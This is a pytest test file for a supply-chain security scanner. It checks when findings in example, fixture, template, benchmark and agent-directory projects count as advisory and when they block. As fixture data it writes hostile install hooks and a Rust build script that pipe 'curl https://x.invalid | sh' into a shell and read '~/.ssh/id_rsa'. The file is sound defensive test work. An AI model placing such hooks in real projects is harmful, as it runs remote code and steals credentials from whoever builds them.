"""Projects no root workspace lists, under examples, fixtures, docs or templates
(the corpus's largest group of false alarms): still reported, as advisory."""

import json

from ztsa.model import Status


def test_example_and_fixture_requirements_are_advisory(machine):
    """flask, python-sdk: examples/**/requirements.txt beside a locked root."""
    machine.ws("pyproject.toml", '[project]\nname = "app"\nversion = "1"\n')
    machine.ws("uv.lock", "version = 1\n")
    machine.ws("examples/tutorial/requirements.txt", "flask\n")
    machine.ws("tests/fixtures/proj/requirements.txt", "requests>=2\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and out.advisory, out
    assert all("advisory" in e.detail for e in out.evidence)
    machine.ws("requirements.txt", "flask\n")  # the root's own: gating again
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory


def test_a_workspace_member_under_examples_is_in_play(machine):
    """npm workspaces that list examples/* install them with the root."""
    machine.ws("package.json", json.dumps({"name": "root", "workspaces": ["examples/*"]}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("examples/demo/package.json", json.dumps({
        "name": "demo", "scripts": {"postinstall": "curl -s https://x.invalid/p"}}))
    out = machine.run("SUP004")
    assert out.status is Status.FAIL and not out.advisory


def test_templates_without_a_lockfile_and_broken_fixture_manifests_are_advisory(machine):
    """workers-sdk's create-cloudflare templates; babel's deliberately invalid
    package.json fixtures (unknown before)."""
    machine.ws("package.json", json.dumps({"name": "root"}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("packages/create/templates/hello/py/pyproject.toml",
               '[project]\nname = "hello"\nversion = "0"\ndependencies = ["httpx"]\n')
    out = machine.run("SUP001")
    assert out.status is Status.FAIL and out.advisory, out
    machine.ws("packages/core/test/fixtures/invalid-pkg-json/package.json", '{ "babel": { foo')
    out = machine.run("SUP006")  # undecided, there only: unknown, and advisory
    assert out.status is Status.UNKNOWN and out.advisory, out
    assert "could not read" in out.evidence[0].detail


def test_a_workspace_lists_only_its_own_ecosystems_projects(machine):
    """vercel/ai's pnpm workspace lists examples/*: pnpm installs examples/next-fastapi's
    package.json, never its requirements.txt; python-sdk's uv members under examples/
    are in play, a requirements.txt deeper inside one is not what `uv sync` installs."""
    machine.ws("package.json", json.dumps({"name": "root"}))
    machine.ws("pnpm-workspace.yaml", "packages:\n  - examples/*\n")
    machine.ws("pnpm-lock.yaml", "lockfileVersion: '9.0'\n")
    machine.ws("examples/next-fastapi/requirements.txt", "fastapi==0.1\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and out.advisory, out
    machine.ws("pyproject.toml", '[project]\nname = "sdk"\nversion = "1"\n'
               '[tool.uv.workspace]\nmembers = ["examples/clients/*"]\n')
    machine.ws("uv.lock", "version = 1\n")
    machine.ws("examples/clients/chat/pkg/requirements.txt", "mcp>=1\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and out.advisory, out
    machine.ws("examples/clients/chat/requirements.txt", "mcp>=1\n")  # the member's own
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory, out


def test_an_undecidable_lockfile_of_a_benchmark_is_advisory(machine):
    """hono's benchmarks/jsx/yarn.lock: Yarn records no install scripts and there is no
    node_modules; the root installs no such project, so it does not block."""
    machine.ws("package.json", json.dumps({"name": "root"}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("benchmarks/jsx/package.json", json.dumps({"name": "bench",
                                                           "dependencies": {"x": "1"}}))
    machine.ws("benchmarks/jsx/yarn.lock", '# yarn lockfile v1\n\nx@1:\n  version "1.0.0"\n')
    out = machine.run("SUP003")
    assert out.status is Status.UNKNOWN and out.advisory, out
    machine.ws("yarn.lock", '# yarn lockfile v1\n\nx@1:\n  version "1.0.0"\n')
    machine.ws("package.json", json.dumps({"name": "root", "dependencies": {"x": "1"}}))
    (machine.workspace / "package-lock.json").unlink()
    out = machine.run("SUP003")  # the root's own yarn.lock: gating
    assert out.status is Status.UNKNOWN and not out.advisory, out


def test_a_js_project_under_test_is_a_fixture_a_python_requirements_file_is_not(machine):
    """elysia's test/cloudflare/package-lock.json; tests/requirements.txt is usually the
    repository's own test dependencies."""
    machine.ws("package.json", json.dumps({"name": "root"}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("test/cloudflare/package.json", json.dumps({"name": "cf-fixture"}))
    machine.ws("test/cloudflare/package-lock.json", json.dumps({
        "lockfileVersion": 3, "packages": {"node_modules/esbuild": {
            "version": "0.25.4", "hasInstallScript": True}}}))
    out = machine.run("SUP003")
    assert out.status is Status.FAIL and out.advisory, out
    machine.ws("tests/requirements.txt", "pytest\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory, out


def test_lock_entries_past_the_report_limit_keep_their_file(machine):
    """elysia: 54 entries without integrity in test/cloudflare/package-lock.json; the
    ones past the report limit were one line without a file, which counted as in play."""
    from ztsa.rules.sup.sup002_lock_integrity import MAX_REPORTS

    machine.ws("package.json", json.dumps({"name": "root"}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    pkgs = {f"node_modules/p{i}": {"version": "1.0.0",
                                   "resolved": f"https://registry.npmjs.org/p{i}/-/p{i}.tgz"}
            for i in range(MAX_REPORTS + 7)}
    machine.ws("test/cloudflare/package-lock.json",
               json.dumps({"lockfileVersion": 3, "packages": pkgs}))
    out = machine.run("SUP002")
    assert out.status is Status.FAIL and out.advisory, out
    assert any("7 more lock entries" in e.detail and e.path == "test/cloudflare/package-lock.json"
               for e in out.evidence)


def test_python_projects_inside_a_js_workspace_without_root_python_are_advisory(machine):
    """continue's manual-testing-sandbox/requirements.txt and generated Python client,
    gemini-cli's tools/caretaker-agent services, playwright's doc-lint helper: the root
    is an npm workspace and installs no Python. A root Python project, or no workspace
    list, keeps them gating."""
    machine.ws("package.json", json.dumps({"name": "root", "workspaces": ["packages/*"]}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("tools/agent/cloudrun/worker/requirements.txt", "flask\n")
    machine.ws("packages/sdk/python/api/pyproject.toml",
               '[project]\nname = "api"\nversion = "1"\ndependencies = ["urllib3"]\n')
    for rule in ("SUP012", "SUP001"):
        out = machine.run(rule)
        assert out.status is Status.FAIL and out.advisory, (rule, out)
    machine.ws("requirements-dev.txt", "pytest==8.0.0\n")  # the root has Python now
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory, out


def test_python_beside_a_js_root_is_in_play_only_where_the_root_names_it(machine):
    """continue: a JS root (no workspace list) with a sample folder's requirements.txt
    and a generated client that nothing names; a full-stack repository's server/, which
    its README or Compose file names, stays gating."""
    machine.ws("package.json", json.dumps({"name": "root", "scripts": {"prepare": "husky"}}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("README.md", "# app\n\nThe language server lives in packages/.\n")
    machine.ws("manual-testing-sandbox/requirements.txt", "flask\n")
    machine.ws("packages/sdk/python/api/requirements.txt", "urllib3\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and out.advisory, out
    for named in ("pip install -r server/requirements.txt\n", "cd server && uv sync\n",
                  "pip install -r ./server/requirements.txt\n"):
        machine.ws("server/requirements.txt", "flask\n")
        machine.ws("CONTRIBUTING.md", named)
        out = machine.run("SUP012")
        assert out.status is Status.FAIL and not out.advisory, (named, out)
        assert any(e.path == "server/requirements.txt" and "advisory" not in e.detail
                   for e in out.evidence)
    machine.ws("CONTRIBUTING.md", "")
    machine.ws("compose.yaml", "services:\n  api:\n    build: ./server\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory, out
    machine.ws("compose.yaml", "")
    machine.ws("scripts/setup.sh", "cd server\npip install -r requirements.txt\n")
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory, out


def test_python_beside_a_js_root_stays_gating_when_the_root_cannot_be_read(machine):
    import os

    machine.ws("package.json", json.dumps({"name": "root"}))
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("server/requirements.txt", "flask\n")
    os.mkfifo(os.path.join(machine.workspace, "README.md"))
    out = machine.run("SUP012")
    assert out.status is Status.FAIL and not out.advisory, out


def test_a_hook_script_named_setup_py_in_an_agents_directory_is_no_project(machine):
    """A Claude Code hook `.claude/hooks/setup.py` (and a skill's requirements.txt) is
    what the agent runs, not a Python project the root installs: advisory."""
    machine.ws(".claude/hooks/setup.py", "import os\nos.system('echo hi')\n")
    machine.ws(".claude/skills/pdf/requirements.txt", "pypdf\n")
    for rule in ("SUP001", "SUP013", "SUP012"):
        out = machine.run(rule)
        assert out.status is Status.PASS or out.advisory, (rule, out)
    machine.ws("tools/setup.py", "import os\nos.system('echo hi')\n")
    out = machine.run("SUP013")
    assert out.status is Status.FAIL and not out.advisory, out


def test_a_fixture_crate_with_a_build_script_is_advisory(machine):
    """A crate under tests/fixtures that no Cargo workspace lists, whose build.rs reads
    the home, shells out and fetches: what a test feeds the tool, not what the root
    builds. The same build.rs in a root crate gates."""
    script = ('use std::process::Command;\nfn main() {\n'
              '    let h = std::env::var("HOME").unwrap();\n'
              '    let _ = std::fs::read_to_string(format!("{h}/.ssh/id_rsa"));\n'
              '    Command::new("sh").arg("-c").arg("curl -s https://x.invalid | sh")'
              '.status().unwrap();\n}\n')
    machine.ws("Cargo.toml", '[package]\nname = "tool"\nversion = "0.1.0"\n')
    machine.ws("tests/fixtures/bad/Cargo.toml", '[package]\nname = "bad"\nversion = "0.1.0"\n')
    machine.ws("tests/fixtures/bad/build.rs", script)
    machine.ws("tests/fixtures/bad/install.sh", "curl -s https://x.invalid/i | sh\n")
    machine.ws("tests/fixtures/bad/.cargo/config.toml", '[build]\nrustc-wrapper = "./w.sh"\n')
    for rule in ("SUP009", "SUP010", "SUP011", "SUP005", "SUP008"):
        out = machine.run(rule)
        assert out.status is Status.FAIL and out.advisory, (rule, out)
    machine.ws("build.rs", script)
    for rule in ("SUP009", "SUP010", "SUP011"):
        out = machine.run(rule)
        assert out.status is Status.FAIL and not out.advisory, (rule, out)


def test_what_the_roots_install_builds_stays_in_play_wherever_it_lies(machine):
    """helper-21's evasions: a Python project below a JS root that the root's postinstall
    installs without naming its path (`cd tools && pip install ./pyhelper`, or a script
    it runs that does); an npm workspace member under `.agents/`; a crate under
    tests/fixtures that the root depends on by path. Each gates."""
    setup_py = "import os\nos.system('curl -s https://x.invalid/i | sh')\n"
    machine.ws("package-lock.json", json.dumps({"lockfileVersion": 3, "packages": {}}))
    machine.ws("tools/pyhelper/setup.py", setup_py)
    for hook, extra in (("cd tools && pip install ./pyhelper", {}),
                        ("node bootstrap.js", {"bootstrap.js": "require('child_process')"
                                               ".execSync('python3 -m pip install "
                                               "./tools/pyhelper')\n"})):
        machine.ws("package.json", json.dumps({"name": "r", "scripts": {"postinstall": hook}}))
        for rel, text in extra.items():
            machine.ws(rel, text)
        out = machine.run("SUP013")
        assert out.status is Status.FAIL and not out.advisory, (hook, out)
    machine.ws("package.json", json.dumps({"name": "r", "scripts": {"prepare": "husky"}}))
    assert machine.run("SUP013").advisory  # nothing at the root installs it
    machine.ws("package.json", json.dumps({"name": "r", "workspaces": [".agents/tool"]}))
    machine.ws(".agents/tool/package.json", json.dumps({
        "name": "tool", "scripts": {"postinstall": "curl -fsSL https://x.invalid/i | sh"}}))
    out = machine.run("SUP005")
    assert out.status is Status.FAIL and not out.advisory, out
    machine.ws("Cargo.toml", '[package]\nname = "app"\nversion = "0.1.0"\n'
               '[build-dependencies]\nhelper = { path = "tests/fixtures/helper" }\n')
    machine.ws("tests/fixtures/helper/Cargo.toml", '[package]\nname = "helper"\n'
               'version = "0.1.0"\n')
    machine.ws("tests/fixtures/helper/build.rs", 'fn main() { std::process::Command::new("sh")'
               '.arg("-c").arg("curl -s https://x.invalid | sh").status().unwrap(); }\n')
    out = machine.run("SUP010")
    assert out.status is Status.FAIL and not out.advisory, out
